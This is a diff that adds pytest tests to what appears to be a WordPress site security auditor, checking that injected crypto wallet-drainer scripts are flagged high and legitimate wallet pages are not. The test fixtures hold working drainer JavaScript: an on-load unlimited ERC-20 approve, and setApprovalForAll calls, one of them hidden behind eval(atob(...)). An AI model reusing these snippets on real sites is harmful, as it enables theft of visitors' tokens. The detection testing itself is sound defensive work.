@@ -1273,3 +1273,85 @@ def test_every_link_rewritten_through_another_site_is_click_hijacking(
     report = audit_listed(wp_page(footer=f"<script>{code}</script>"), URL)
     found = [f.severity for f in report.findings if f.kind == "redirect"]
     assert found == ([severity] if severity else []), report.findings
+
+
+# --- wallet drainers: a kit connects the wallet and asks for an approval ---------------
+# The forms of the drainer write-ups (Sucuri's and Blockaid's on Angel and Inferno
+# Drainer injected into WordPress sites): on load, ask for the accounts, then send an
+# ERC-20 `approve` by its selector (0x095ea7b3) granting a spender every token, or call
+# `setApprovalForAll` through ethers; addresses and hosts made up.
+_SPENDER = "0x5e1f0000000000000000000000000000000a11ce"
+DRAINER_SELECTOR = (
+    "<script>(async()=>{if(!window.ethereum)return;try{const a=await window.ethereum.request("
+    "{method:'eth_requestAccounts'});const d='0x095ea7b3'+'" + _SPENDER[2:] + "'.padStart(64,"
+    "'0')+'f'.repeat(64);await window.ethereum.request({method:'eth_sendTransaction',params:"
+    "[{from:a[0],to:'0x00000000000000000000000000000000000000aa',data:d}]});}catch(e){}})();"
+    "</script>")
+_DRAINER_NFT_CODE = (
+    "(async function(){const p=new ethers.providers.Web3Provider(window.ethereum);await p.send("
+    "'eth_requestAccounts',[]);const c=new ethers.Contract('0x00000000000000000000000000000000"
+    "000000bb',['function setApprovalForAll(address,bool)'],p.getSigner());await c."
+    "setApprovalForAll('" + _SPENDER + "',true);})();")
+DRAINER_ENCODED = "<script>eval(atob('" + _b64(_DRAINER_NFT_CODE) + "'));</script>"
+DRAINER_PLAIN_NFT = "<script>" + _DRAINER_NFT_CODE + "</script>"
+# a crypto news site's article: it shows wallet words, so only a mark makes code high
+_CRYPTO_PROSE = ("<p>Ethereum wallets saw record airdrop claims this week as the NFT market "
+                 "recovered.</p>")
+
+DRAINERS: list[tuple[str, dict[str, str]]] = [
+    ("approve by selector on load, in the post of a news article", {"post": DRAINER_SELECTOR}),
+    ("setApprovalForAll, wp_footer of a news article", {"footer": DRAINER_PLAIN_NFT}),
+    ("setApprovalForAll in base64, a crypto article", {"post": _CRYPTO_PROSE,
+                                                       "footer": DRAINER_ENCODED}),
+    ("approve after </html>, a crypto article", {"post": _CRYPTO_PROSE,
+                                                 "after": DRAINER_SELECTOR}),
+]
+
+
+@pytest.mark.parametrize(("name", "where"), DRAINERS, ids=[d[0] for d in DRAINERS])
+def test_an_injected_wallet_drainer_is_high(name: str, where: dict[str, str],
+                                            audit_listed: AuditListed) -> None:
+    report = audit_listed(wp_page(**where), URL)
+    found = [(f.kind, f.severity) for f in report.findings]
+    assert ("wallet-drainer", H) in found, found
+    drainer = next(f for f in report.findings if f.kind == "wallet-drainer")
+    assert "wallet drainer" in drainer.message and "<script" not in drainer.message
+
+
+# a dapp's own page: a swap page approves its router when the visitor clicks
+_DAPP = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Harbourswap</title>
+</head><body><div id="app"><header>Harbourswap</header><button id="connect">Connect wallet
+</button><section class="swap"><h2>Swap tokens on Ethereum</h2><input id="amount"></section>
+</div><script>document.getElementById('connect').onclick=async()=>{const [a]=await
+ethereum.request({method:'eth_requestAccounts'});const t=new ethers.Contract(TOKEN,ERC20_ABI,
+signer);await t.approve(ROUTER,amount);};</script></body></html>"""
+# a wallet tutorial shows the calls as code, runs none
+_TUTORIAL = ("<p>To connect MetaMask, ask for the accounts, then approve the spender:</p><pre>"
+             "<code>await ethereum.request({ method: 'eth_requestAccounts' });\nawait token."
+             "approve(spender, amount);</code></pre>")
+# a blogger's tip jar: a payment, no approval
+_TIP_JAR = (
+    "<p>Enjoyed this? Tip the author in crypto.</p><button id='tip'>Tip 0.01 ETH</button>"
+    "<script>document.getElementById('tip').onclick=async()=>{const [a]=await ethereum.request"
+    "({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',"
+    "params:[{from:a,to:'0x00000000000000000000000000000000000000cc',value:'0x2386f26fc10000'}]"
+    "});};</script>")
+# a crypto site's article embedding a mint widget that approves its own contract
+_MINT_WIDGET = (
+    _CRYPTO_PROSE + "<div class='mint-widget'><button id='mint'>Connect wallet and mint"
+    "</button></div><script>document.getElementById('mint').onclick=async()=>{await ethereum"
+    ".request({method:'eth_requestAccounts'});await usdc.approve(MINTER,price);await minter."
+    "mint(1);};</script>")
+
+
+@pytest.mark.parametrize(("name", "page", "url", "severity"), [
+    ("a dapp's swap page approving its router", _DAPP, "https://app.harbourswap.example/", None),
+    ("a wallet tutorial's code sample", wp_page(post=_TUTORIAL), URL, None),
+    ("a blog's tip jar (a payment)", wp_page(post=_TIP_JAR), URL, None),
+    ("a crypto article's own mint widget", wp_page(post=_MINT_WIDGET), URL, M),
+], ids=["dapp", "tutorial", "tip jar", "mint widget"])
+def test_a_legitimate_wallet_page_is_below_high(name: str, page: str, url: str,
+                                                severity: Severity | None,
+                                                audit_listed: AuditListed) -> None:
+    found = [f for f in audit_listed(page, url).findings if f.kind == "wallet-drainer"]
+    assert [f.severity for f in found] == ([severity] if severity else []), found
